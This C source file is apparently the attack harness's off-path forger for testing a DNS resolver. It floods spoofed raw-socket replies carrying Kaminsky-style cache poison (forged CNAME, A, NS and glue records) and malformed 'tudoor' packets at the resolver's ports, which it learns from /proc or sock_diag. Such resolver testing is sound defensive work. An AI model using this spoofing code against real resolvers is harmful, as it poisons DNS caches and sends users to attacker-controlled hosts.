/* forge: the off-path forger of the attack harness (tests/attack/README.md).
 *
 * It plays an attacker who never sees the resolver's traffic. For each
 * trigger it asks the resolver (as an ordinary client) a question whose
 * genuine upstream reply is slow, then floods forged replies from the real
 * server's address (raw socket, IP_HDRINCL) at the resolver's UDP ports with
 * random IDs until the answer comes back, and reads the answer to see whether
 * it carries the forged data. The ports are "learned" the best way an
 * attacker could: from /proc/PID/fd and /proc/PID/net/udp of the resolver,
 * once (a snapshot) or refreshed every --scan-ms.
 *
 * Modes (the forged packets):
 *   kaminsky   right question (the trigger), AA answer trigger CNAME www.ZONE,
 *              www.ZONE A EVIL; authority ZONE NS ns66.ZONE; glue ns66.ZONE
 *              and ns.ZONE A EVIL_NS
 *   othername  the same poison, but the question is another name or type
 *              (www.ZONE A, the trigger AAAA, ns.ZONE A)
 *   tudoor     malformed and misleading packets: random bytes, runts, header
 *              only, counts beyond the data, a compression loop, SERVFAIL,
 *              REFUSED and TC=1 replies for the trigger
 * --birthday N sends every trigger question N times at once.
 *
 * Output: one JSON object on stdout.
 */
#include <arpa/inet.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PKT_MAX 512
#define MAX_TPL 8
#define MAX_BIRTHDAY 1024
#define MAX_FORGED_NAMES 16

enum mode { M_KAMINSKY, M_OTHERNAME, M_TUDOOR };

struct opts {
	struct in_addr resolver;
	uint16_t resolver_port;
	struct in_addr server; /* the spoofed source */
	char zone[200];        /* no trailing dot */
	int pid;
	enum mode mode;
	uint64_t packets;
	double seconds;
	int scan_ms; /* 0: one snapshot */
	int max_wait_ms;
	struct in_addr evil_a, evil_ns;
	int birthday;
	bool stop_on_accept;
	bool id_sweep; /* IDs in order (per trigger) instead of at random */
};

/* ---------- small helpers ---------- */

static uint64_t rng[2];

static uint64_t rnd64(void)
{
	uint64_t s1 = rng[0];
	const uint64_t s0 = rng[1];
	rng[0] = s0;
	s1 ^= s1 << 23;
	rng[1] = s1 ^ s0 ^ (s1 >> 17) ^ (s0 >> 26);
	return rng[1] + s0;
}

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void die(const char *what)
{
	fprintf(stderr, "forge: %s: %s\n", what, strerror(errno));
	exit(2);
}

static void usage(void)
{
	fprintf(stderr,
		"usage: forge --resolver ADDR[@PORT] --server ADDR --zone ZONE --pid PID\n"
		"             [--mode kaminsky|othername|tudoor] [--packets N] [--seconds S]\n"
		"             [--scan-ms MS (0 = one snapshot)] [--max-wait-ms MS]\n"
		"             [--evil-a ADDR] [--evil-ns ADDR] [--birthday N] [--stop-on-accept]\n"
		"             [--id-sweep]\n");
	exit(2);
}

/* ---------- DNS wire building ---------- */

struct buf {
	uint8_t d[PKT_MAX];
	size_t n;
	bool overflow;
};

static void put8(struct buf *b, unsigned v)
{
	if (b->n >= sizeof(b->d)) {
		b->overflow = true;
		return;
	}
	b->d[b->n++] = (uint8_t)v;
}

static void put16(struct buf *b, unsigned v)
{
	put8(b, (v >> 8) & 0xff);
	put8(b, v & 0xff);
}

static void put32(struct buf *b, uint32_t v)
{
	put16(b, v >> 16);
	put16(b, v & 0xffff);
}

static void putbytes(struct buf *b, const void *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		put8(b, ((const uint8_t *)p)[i]);
}

/* A dotted name (no final dot needed) in wire form, uncompressed. */
static void putname(struct buf *b, const char *name)
{
	const char *p = name;
	while (*p) {
		const char *dot = strchr(p, '.');
		size_t len = dot ? (size_t)(dot - p) : strlen(p);
		if (len > 0) {
			put8(b, (unsigned)len);
			putbytes(b, p, len);
		}
		if (!dot)
			break;
		p = dot + 1;
	}
	put8(b, 0);
}

enum { T_A = 1, T_NS = 2, T_CNAME = 5, T_SOA = 6, T_AAAA = 28 };

static void header(struct buf *b, unsigned flags, unsigned qd, unsigned an, unsigned ns, unsigned ar)
{
	put16(b, 0); /* ID, patched per packet */
	put16(b, flags);
	put16(b, qd);
	put16(b, an);
	put16(b, ns);
	put16(b, ar);
}

static void question(struct buf *b, const char *name, unsigned type)
{
	putname(b, name);
	put16(b, type);
	put16(b, 1);
}

static void rr_a(struct buf *b, const char *owner, struct in_addr a)
{
	putname(b, owner);
	put16(b, T_A);
	put16(b, 1);
	put32(b, 86400);
	put16(b, 4);
	putbytes(b, &a.s_addr, 4);
}

static void rr_name(struct buf *b, const char *owner, unsigned type, const char *target)
{
	putname(b, owner);
	put16(b, type);
	put16(b, 1);
	put32(b, 86400);
	size_t at = b->n;
	put16(b, 0);
	putname(b, target);
	size_t len = b->n - at - 2;
	if (!b->overflow) {
		b->d[at] = (uint8_t)(len >> 8);
		b->d[at + 1] = (uint8_t)len;
	}
}

#define F_QR 0x8000u
#define F_AA 0x0400u
#define F_TC 0x0200u

/* The poison every forged reply of kaminsky/othername carries, for a reply
 * whose question is QNAME/QTYPE. */
static void poison(struct buf *b, const struct opts *o, const char *qname, unsigned qtype)
{
	char www[256], ns66[256], ns[256];
	snprintf(www, sizeof(www), "www.%s", o->zone);
	snprintf(ns66, sizeof(ns66), "ns66.%s", o->zone);
	snprintf(ns, sizeof(ns), "ns.%s", o->zone);
	bool cname = strcmp(qname, www) != 0 && qtype == T_A;
	header(b, F_QR | F_AA, 1, cname ? 2 : 1, 1, 2);
	question(b, qname, qtype);
	if (cname)
		rr_name(b, qname, T_CNAME, www);
	rr_a(b, www, o->evil_a);
	rr_name(b, o->zone, T_NS, ns66);
	rr_a(b, ns66, o->evil_ns);
	rr_a(b, ns, o->evil_ns);
}

/* Templates for one trigger name: DNS payloads, ID bytes zero. */
static int templates(const struct opts *o, const char *trigger, struct buf *t)
{
	char www[256], ns[256];
	snprintf(www, sizeof(www), "www.%s", o->zone);
	snprintf(ns, sizeof(ns), "ns.%s", o->zone);
	int n = 0;
	for (int i = 0; i < MAX_TPL; i++)
		memset(&t[i], 0, sizeof(t[i]));
	switch (o->mode) {
	case M_KAMINSKY:
		poison(&t[n++], o, trigger, T_A);
		break;
	case M_OTHERNAME:
		poison(&t[n++], o, www, T_A);
		poison(&t[n++], o, trigger, T_AAAA);
		poison(&t[n++], o, ns, T_A);
		break;
	case M_TUDOOR:
		/* random bytes */
		t[n].n = 48;
		for (size_t i = 0; i < t[n].n; i++)
			t[n].d[i] = (uint8_t)rnd64();
		t[n].d[2] |= 0x80; /* looks like a response */
		n++;
		/* a 5-byte runt */
		t[n].n = 5;
		t[n].d[2] = 0x84;
		n++;
		/* header only, SERVFAIL, no question */
		header(&t[n++], F_QR | 2, 0, 0, 0, 0);
		/* the trigger's question, A EVIL, ANCOUNT beyond the data */
		header(&t[n], F_QR | F_AA, 1, 6, 0, 0);
		question(&t[n], trigger, T_A);
		rr_a(&t[n], trigger, o->evil_a);
		n++;
		/* an answer whose owner is a compression pointer to itself */
		header(&t[n], F_QR | F_AA, 1, 1, 0, 0);
		question(&t[n], trigger, T_A);
		{
			size_t at = t[n].n;
			put16(&t[n], 0xc000u | (unsigned)at);
			put16(&t[n], T_A);
			put16(&t[n], 1);
			put32(&t[n], 300);
			put16(&t[n], 4);
			putbytes(&t[n], &o->evil_a.s_addr, 4);
		}
		n++;
		/* well-formed SERVFAIL, REFUSED and TC=1 for the trigger */
		header(&t[n], F_QR | 2, 1, 0, 0, 0);
		question(&t[n++], trigger, T_A);
		header(&t[n], F_QR | 5, 1, 0, 0, 0);
		question(&t[n++], trigger, T_A);
		header(&t[n], F_QR | F_AA | F_TC, 1, 0, 0, 0);
		question(&t[n++], trigger, T_A);
		break;
	}
	for (int i = 0; i < n; i++)
		if (t[i].overflow) {
			fprintf(stderr, "forge: template overflow\n");
			exit(2);
		}
	return n;
}

/* ---------- learning the resolver's ports ---------- */

struct target {
	uint32_t addr; /* network order */
	uint16_t port; /* network order */
};

struct targets {
	struct target *v;
	size_t n, cap;
};

static int cmp_ul(const void *a, const void *b)
{
	unsigned long x = *(const unsigned long *)a, y = *(const unsigned long *)b;
	return x < y ? -1 : x > y;
}

/* The resolver's open IPv4 UDP sockets other than port 53: what a perfect
 * port scan of it would find. */
static void scan(int pid, struct targets *out)
{
	static unsigned long *inodes;
	static size_t icap;
	size_t ni = 0;
	char path[64], link[128];
	out->n = 0;
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *d = opendir(path);
	if (!d)
		die(path);
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		char fdp[64 + 256];
		if (e->d_name[0] == '.')
			continue;
		snprintf(fdp, sizeof(fdp), "%s/%s", path, e->d_name);
		ssize_t n = readlink(fdp, link, sizeof(link) - 1);
		if (n <= 0)
			continue;
		link[n] = 0;
		unsigned long ino;
		if (sscanf(link, "socket:[%lu]", &ino) != 1)
			continue;
		if (ni == icap) {
			icap = icap ? icap * 2 : 4096;
			inodes = realloc(inodes, icap * sizeof(*inodes));
			if (!inodes)
				die("realloc");
		}
		inodes[ni++] = ino;
	}
	closedir(d);
	qsort(inodes, ni, sizeof(*inodes), cmp_ul);
	snprintf(path, sizeof(path), "/proc/%d/net/udp", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		die(path);
	char line[512];
	if (!fgets(line, sizeof(line), f)) { /* header line */
		fclose(f);
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		unsigned addr, port;
		unsigned long ino;
		if (sscanf(line, " %*u: %x:%x %*x:%*x %*x %*x:%*x %*x:%*x %*x %*u %*u %lu", &addr, &port,
			   &ino) != 3)
			continue;
		if (port == 53 || !bsearch(&ino, inodes, ni, sizeof(*inodes), cmp_ul))
			continue;
		if (out->n == out->cap) {
			out->cap = out->cap ? out->cap * 2 : 4096;
			out->v = realloc(out->v, out->cap * sizeof(*out->v));
			if (!out->v)
				die("realloc");
		}
		/* /proc prints the address as the raw 32-bit word, the port in host order */
		out->v[out->n].addr = addr ? (uint32_t)addr : htonl(INADDR_LOOPBACK);
		out->v[out->n].port = htons((uint16_t)port);
		out->n++;
	}
	fclose(f);
}

/* The fast scan: every IPv4 UDP socket in the namespace, through sock_diag
 * netlink (a millisecond for thousands of sockets, where /proc takes tens),
 * but for port 53 (the servers and the resolver's listener) and the
 * forger's own client socket. That is what a perfect port scan of the host
 * would find; the first scan is checked against /proc/PID (scan_foreign). */
static void scan_diag(unsigned long own_inode, struct targets *out)
{
	static uint8_t buf[1 << 16];
	out->n = 0;
	int nl = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
	if (nl < 0)
		die("netlink socket");
	struct {
		struct nlmsghdr nh;
		struct inet_diag_req_v2 r;
	} req;
	memset(&req, 0, sizeof(req));
	req.nh.nlmsg_len = sizeof(req);
	req.nh.nlmsg_type = SOCK_DIAG_BY_FAMILY;
	req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
	req.r.sdiag_family = AF_INET;
	req.r.sdiag_protocol = IPPROTO_UDP;
	req.r.idiag_states = ~0u;
	if (send(nl, &req, sizeof(req), 0) < 0)
		die("sock_diag request");
	for (;;) {
		ssize_t n = recv(nl, buf, sizeof(buf), 0);
		if (n < 0)
			die("sock_diag recv");
		for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)n);
		     h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
				close(nl);
				return;
			}
			const struct inet_diag_msg *m = NLMSG_DATA(h);
			if (ntohs(m->id.idiag_sport) == 53 || m->idiag_inode == own_inode)
				continue;
			if (out->n == out->cap) {
				out->cap = out->cap ? out->cap * 2 : 4096;
				out->v = realloc(out->v, out->cap * sizeof(*out->v));
				if (!out->v)
					die("realloc");
			}
			out->v[out->n].addr = m->id.idiag_src[0] ? m->id.idiag_src[0] : htonl(INADDR_LOOPBACK);
			out->v[out->n].port = m->id.idiag_sport;
			out->n++;
		}
	}
}

static int cmp_target(const void *a, const void *b)
{
	const struct target *x = a, *y = b;
	if (x->port != y->port)
		return x->port < y->port ? -1 : 1;
	return x->addr < y->addr ? -1 : x->addr > y->addr;
}

/* How many of the host scan's targets are not the resolver's (by /proc). */
static size_t foreign(int pid, struct targets *host)
{
	struct targets mine = { 0 };
	scan(pid, &mine);
	qsort(mine.v, mine.n, sizeof(*mine.v), cmp_target);
	size_t nf = 0;
	for (size_t i = 0; i < host->n; i++)
		if (!bsearch(&host->v[i], mine.v, mine.n, sizeof(*mine.v), cmp_target))
			nf++;
	free(mine.v);
	return nf;
}

/* ---------- the client side ---------- */

struct outcome {
	uint64_t genuine, forged, servfail, other, timeout;
};

/* Does the answer carry an A record with one of the attacker's addresses,
 * or a CNAME in the answer section (the genuine server has none)?
 * Sets *genuine when the answer section has a 192.0.2.0/24 A record. */
static bool carries(const uint8_t *p, size_t n, const struct opts *o, bool *genuine)
{
	*genuine = false;
	if (n < 12)
		return false;
	unsigned qd = (unsigned)(p[4] << 8 | p[5]);
	unsigned an = (unsigned)(p[6] << 8 | p[7]);
	unsigned total = an + (unsigned)(p[8] << 8 | p[9]) + (unsigned)(p[10] << 8 | p[11]);
	size_t pos = 12;
	bool evil = false;
	for (unsigned i = 0; i < qd + total; i++) {
		while (pos < n) { /* skip a name */
			uint8_t l = p[pos];
			if (l == 0) {
				pos++;
				break;
			}
			if ((l & 0xc0) == 0xc0) {
				pos += 2;
				break;
			}
			pos += 1u + l;
		}
		if (i < qd) {
			pos += 4;
			continue;
		}
		if (pos + 10 > n)
			return evil;
		unsigned type = (unsigned)(p[pos] << 8 | p[pos + 1]);
		unsigned rdlen = (unsigned)(p[pos + 8] << 8 | p[pos + 9]);
		pos += 10;
		if (pos + rdlen > n)
			return evil;
		/* the genuine server never answers with a CNAME: one is forged */
		if (type == T_CNAME && i < qd + an)
			evil = true;
		if (type == T_A && rdlen == 4) {
			if (!memcmp(p + pos, &o->evil_a.s_addr, 4) || !memcmp(p + pos, &o->evil_ns.s_addr, 4))
				evil = true;
			if (i < qd + an && p[pos] == 192 && p[pos + 1] == 0 && p[pos + 2] == 2)
				*genuine = true;
		}
		pos += rdlen;
	}
	return evil;
}

static size_t make_query(uint8_t *q, size_t cap, uint16_t id, const char *name)
{
	struct buf b;
	memset(&b, 0, sizeof(b));
	put16(&b, id);
	put16(&b, 0x0100); /* RD */
	put16(&b, 1);
	put16(&b, 0);
	put16(&b, 0);
	put16(&b, 0);
	question(&b, name, T_A);
	if (b.overflow || b.n > cap)
		return 0;
	memcpy(q, b.d, b.n);
	return b.n;
}

/* ---------- main loop ---------- */

static void parse_addr(const char *s, struct in_addr *a, uint16_t *port)
{
	char tmp[64];
	snprintf(tmp, sizeof(tmp), "%s", s);
	char *at = strchr(tmp, '@');
	if (at) {
		*at = 0;
		if (!port)
			usage();
		*port = (uint16_t)atoi(at + 1);
	}
	if (inet_pton(AF_INET, tmp, a) != 1)
		usage();
}

static void json_str(const char *s)
{
	putchar('"');
	for (; *s; s++)
		if (*s == '"' || *s == '\\' || (unsigned char)*s < 0x20)
			printf("\\u%04x", (unsigned char)*s);
		else
			putchar(*s);
	putchar('"');
}

int main(int argc, char **argv)
{
	struct opts o;
	memset(&o, 0, sizeof(o));
	o.resolver_port = 53;
	o.mode = M_KAMINSKY;
	o.packets = 1000000;
	o.seconds = 120;
	o.scan_ms = 50;
	o.max_wait_ms = 3000;
	o.birthday = 1;
	o.pid = -1;
	inet_pton(AF_INET, "10.66.6.6", &o.evil_a);
	inet_pton(AF_INET, "127.66.0.1", &o.evil_ns);
	bool have_res = false, have_srv = false;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
		const char *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (!strcmp(a, "--stop-on-accept")) {
			o.stop_on_accept = true;
			continue;
		}
		if (!strcmp(a, "--id-sweep")) {
			o.id_sweep = true;
			continue;
		}
		if (!v)
			usage();
		i++;
		if (!strcmp(a, "--resolver")) {
			parse_addr(v, &o.resolver, &o.resolver_port);
			have_res = true;
		} else if (!strcmp(a, "--server")) {
			parse_addr(v, &o.server, NULL);
			have_srv = true;
		} else if (!strcmp(a, "--zone")) {
			snprintf(o.zone, sizeof(o.zone), "%s", v);
			size_t l = strlen(o.zone);
			if (l && o.zone[l - 1] == '.')
				o.zone[l - 1] = 0;
		} else if (!strcmp(a, "--pid"))
			o.pid = atoi(v);
		else if (!strcmp(a, "--mode")) {
			if (!strcmp(v, "kaminsky"))
				o.mode = M_KAMINSKY;
			else if (!strcmp(v, "othername"))
				o.mode = M_OTHERNAME;
			else if (!strcmp(v, "tudoor"))
				o.mode = M_TUDOOR;
			else
				usage();
		} else if (!strcmp(a, "--packets"))
			o.packets = strtoull(v, NULL, 10);
		else if (!strcmp(a, "--seconds"))
			o.seconds = atof(v);
		else if (!strcmp(a, "--scan-ms"))
			o.scan_ms = atoi(v);
		else if (!strcmp(a, "--max-wait-ms"))
			o.max_wait_ms = atoi(v);
		else if (!strcmp(a, "--evil-a"))
			parse_addr(v, &o.evil_a, NULL);
		else if (!strcmp(a, "--evil-ns"))
			parse_addr(v, &o.evil_ns, NULL);
		else if (!strcmp(a, "--birthday"))
			o.birthday = atoi(v);
		else
			usage();
	}
	if (!have_res || !have_srv || !o.zone[0] || o.pid <= 0 || o.birthday < 1 ||
	    o.birthday > MAX_BIRTHDAY)
		usage();
	if (getrandom(rng, sizeof(rng), 0) != (ssize_t)sizeof(rng))
		die("getrandom");

	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* implies IP_HDRINCL */
	if (raw < 0)
		die("raw socket (run inside tests/lab/netns-run)");
	int one = 1;
	if (setsockopt(raw, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0)
		die("IP_HDRINCL");
	int sndbuf = 4 << 20;
	setsockopt(raw, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof(sndbuf));

	int cs = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
	if (cs < 0)
		die("client socket");
	struct sockaddr_in rsa = { .sin_family = AF_INET, .sin_port = htons(o.resolver_port),
				   .sin_addr = o.resolver };
	if (connect(cs, (struct sockaddr *)&rsa, sizeof(rsa)) < 0)
		die("connect to resolver");

	struct stat cst;
	if (fstat(cs, &cst) < 0)
		die("fstat");
	const unsigned long own_inode = (unsigned long)cst.st_ino;
	long scan_foreign = -1;

	static uint8_t pkts[BATCH][28 + PKT_MAX];
	static struct mmsghdr mm[BATCH];
	static struct iovec iov[BATCH];
	static struct sockaddr_in dst[BATCH];
	for (int i = 0; i < BATCH; i++) {
		dst[i].sin_family = AF_INET;
		iov[i].iov_base = pkts[i];
		mm[i].msg_hdr.msg_name = &dst[i];
		mm[i].msg_hdr.msg_namelen = sizeof(dst[i]);
		mm[i].msg_hdr.msg_iov = &iov[i];
		mm[i].msg_hdr.msg_iovlen = 1;
	}

	struct targets tg = { 0 };
	bool have_snapshot = false;
	double last_scan = 0, last_scan_cost = 0, scan_cost_sum = 0;
	uint64_t batches = 0, sent = 0, send_errors = 0, triggers = 0, client_queries = 0, scans = 0;
	size_t ports_min = (size_t)-1, ports_max = 0;
	double ports_sum = 0;
	struct outcome oc = { 0 };
	char forged_names[MAX_FORGED_NAMES][256];
	int nforged_names = 0;
	struct buf tpl[MAX_TPL];
	const double t0 = now_s();
	double first_accept = -1;
	bool stop = false;

	while (!stop && sent < o.packets && now_s() - t0 < o.seconds) {
		/* a fresh random name under the zone: 12 letters, lowercase */
		char trigger[256];
		char label[16];
		for (int i = 0; i < 12; i++)
			label[i] = (char)('a' + rnd64() % 26);
		label[12] = 0;
		snprintf(trigger, sizeof(trigger), "k%s.%s", label, o.zone);
		int nt = templates(&o, trigger, tpl);

		uint16_t ids[MAX_BIRTHDAY];
		bool done[MAX_BIRTHDAY];
		for (int i = 0; i < o.birthday; i++) {
			uint8_t q[PKT_MAX];
			ids[i] = (uint16_t)rnd64();
			for (int j = 0; j < i; j++)
				if (ids[j] == ids[i]) {
					ids[i] = (uint16_t)rnd64();
					j = -1;
				}
			done[i] = false;
			size_t ql = make_query(q, sizeof(q), ids[i], trigger);
			if (send(cs, q, ql, 0) < 0)
				die("send trigger");
			client_queries++;
		}
		triggers++;
		int pending = o.birthday;
		const double tstart = now_s();
		if (o.scan_ms == 0 && !have_snapshot) {
			/* one scan, taken while the first trigger is outstanding */
			struct timespec ts = { 0, 30 * 1000 * 1000 };
			nanosleep(&ts, NULL);
			scan_diag(own_inode, &tg);
			scans++;
			have_snapshot = tg.n > 0;
			if (scan_foreign < 0)
				scan_foreign = (long)foreign(o.pid, &tg);
		}
		uint64_t k = 0;
		while (pending > 0) {
			double t = now_s();
			if ((t - tstart) * 1000 > o.max_wait_ms)
				break;
			bool flood = sent < o.packets && t - t0 < o.seconds;
			/* rescan every --scan-ms, but spend at most a fifth of the
			 * time scanning (a scan of 2,500 sockets takes milliseconds) */
			if (flood && o.scan_ms > 0 && (t - last_scan) * 1000 >= o.scan_ms &&
			    t - last_scan >= 5 * last_scan_cost) {
				scan_diag(own_inode, &tg);
				scans++;
				if (scan_foreign < 0)
					scan_foreign = (long)foreign(o.pid, &tg);
				last_scan = now_s();
				last_scan_cost = last_scan - t;
				scan_cost_sum += last_scan_cost;
			}
			if (flood && tg.n > 0) {
				if (tg.n < ports_min)
					ports_min = tg.n;
				if (tg.n > ports_max)
					ports_max = tg.n;
				ports_sum += (double)tg.n;
				batches++;
				int nb = BATCH;
				if (o.packets - sent < (uint64_t)nb)
					nb = (int)(o.packets - sent);
				for (int i = 0; i < nb; i++, k++) {
					const struct buf *b = &tpl[k % (uint64_t)nt];
					const struct target *x = &tg.v[rnd64() % tg.n];
					uint8_t *p = pkts[i];
					struct iphdr *ip = (struct iphdr *)p;
					memset(p, 0, 28);
					ip->version = 4;
					ip->ihl = 5;
					ip->ttl = 64;
					ip->protocol = IPPROTO_UDP;
					ip->tot_len = htons((uint16_t)(28 + b->n));
					ip->saddr = o.server.s_addr;
					ip->daddr = x->addr;
					uint16_t ulen = htons((uint16_t)(8 + b->n));
					uint16_t sport = htons(53);
					memcpy(p + 20, &sport, 2);
					memcpy(p + 22, &x->port, 2);
					memcpy(p + 24, &ulen, 2); /* checksum 0: none */
					memcpy(p + 28, b->d, b->n);
					if (b->n >= 2) {
						uint16_t id = o.id_sweep ? htons((uint16_t)(k / (uint64_t)nt))
									 : (uint16_t)rnd64();
						memcpy(p + 28, &id, 2);
					}
					iov[i].iov_len = 28 + b->n;
					dst[i].sin_addr.s_addr = x->addr;
				}
				int r = sendmmsg(raw, mm, (unsigned)nb, 0);
				if (r > 0)
					sent += (uint64_t)r;
				if (r < nb)
					send_errors++;
			} else {
				struct pollfd pfd = { cs, POLLIN, 0 };
				poll(&pfd, 1, flood ? 1 : 5);
			}
			uint8_t ans[4096];
			ssize_t n;
			while ((n = recv(cs, ans, sizeof(ans), 0)) >= 12) {
				uint16_t id = (uint16_t)(ans[0] << 8 | ans[1]);
				int w = -1;
				for (int i = 0; i < o.birthday; i++)
					if (ids[i] == id && !done[i])
						w = i;
				if (w < 0)
					continue;
				done[w] = true;
				pending--;
				bool genuine;
				bool evil = carries(ans, (size_t)n, &o, &genuine);
				unsigned rcode = ans[3] & 0xf;
				if (evil) {
					oc.forged++;
					if (first_accept < 0)
						first_accept = now_s() - t0;
					if (nforged_names < MAX_FORGED_NAMES &&
					    (nforged_names == 0 || strcmp(forged_names[nforged_names - 1], trigger)))
						snprintf(forged_names[nforged_names++], 256, "%s", trigger);
					if (o.stop_on_accept)
						stop = true;
				} else if (rcode == 0 && genuine)
					oc.genuine++;
				else if (rcode == 2)
					oc.servfail++;
				else
					oc.other++;
			}
		}
		oc.timeout += (uint64_t)pending;
	}
	const double elapsed = now_s() - t0;
	printf("{\"sent\": %llu, \"send_errors\": %llu, \"seconds\": %.3f, \"pps\": %.0f, "
	       "\"triggers\": %llu, \"client_queries\": %llu, \"scans\": %llu, ",
	       (unsigned long long)sent, (unsigned long long)send_errors, elapsed,
	       elapsed > 0 ? (double)sent / elapsed : 0.0, (unsigned long long)triggers,
	       (unsigned long long)client_queries, (unsigned long long)scans);
	printf("\"scan_foreign\": %ld, ", scan_foreign);
	printf("\"scan_ms_mean\": %.2f, \"scan_interval_ms_mean\": %.1f, ",
	       scans ? scan_cost_sum * 1000 / (double)scans : 0.0,
	       scans > 1 && o.scan_ms > 0 ? elapsed * 1000 / (double)scans : 0.0);
	printf("\"ports_min\": %zu, \"ports_max\": %zu, \"ports_mean\": %.1f, ",
	       ports_min == (size_t)-1 ? 0 : ports_min, ports_max,
	       batches ? ports_sum / (double)batches : 0.0);
	printf("\"accepted\": %llu, \"genuine\": %llu, \"servfail\": %llu, \"other\": %llu, "
	       "\"timeout\": %llu, \"first_accept_s\": %.3f, \"forged_names\": [",
	       (unsigned long long)oc.forged, (unsigned long long)oc.genuine,
	       (unsigned long long)oc.servfail, (unsigned long long)oc.other,
	       (unsigned long long)oc.timeout, first_accept);
	for (int i = 0; i < nforged_names; i++) {
		if (i)
			printf(", ");
		json_str(forged_names[i]);
	}
	printf("]}\n");
	return 0;
}
